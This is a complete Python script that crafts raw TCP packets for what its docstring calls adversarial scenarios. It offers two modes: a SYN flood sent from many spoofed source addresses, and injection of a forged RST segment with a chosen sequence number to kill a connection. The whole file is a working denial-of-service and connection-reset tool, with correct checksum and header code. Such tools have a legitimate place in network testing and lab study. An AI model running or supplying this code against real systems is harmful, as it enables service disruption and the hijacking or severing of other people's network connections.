#!/usr/bin/env python3
"""Hand-crafted TCP segments from a raw socket, for adversarial scenarios.
usage: inject.py synflood DST PORT COUNT SRC_PREFIX   - SYNs from COUNT spoofed sources SRC_PREFIX.N
       inject.py rst SRC SPORT DST DPORT SEQ          - one RST with the given sequence number
"""
import random, socket, struct, sys

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

def segment(src, sport, dst, dport, seq, flags):
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, 0, 5 << 4, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.randrange(65536), 0, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + tcp

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
random.seed(7)
if sys.argv[1] == 'synflood':
    dst, port, count, prefix = sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
    for i in range(count):
        src = '%s.%d' % (prefix, 100 + i)
        raw.sendto(segment(src, random.randrange(32768, 61000), dst, port, random.randrange(1 << 32), 0x02), (dst, 0))
else:
    src, sport, dst, dport, seq = sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
    raw.sendto(segment(src, sport, dst, dport, seq, 0x04), (dst, 0))
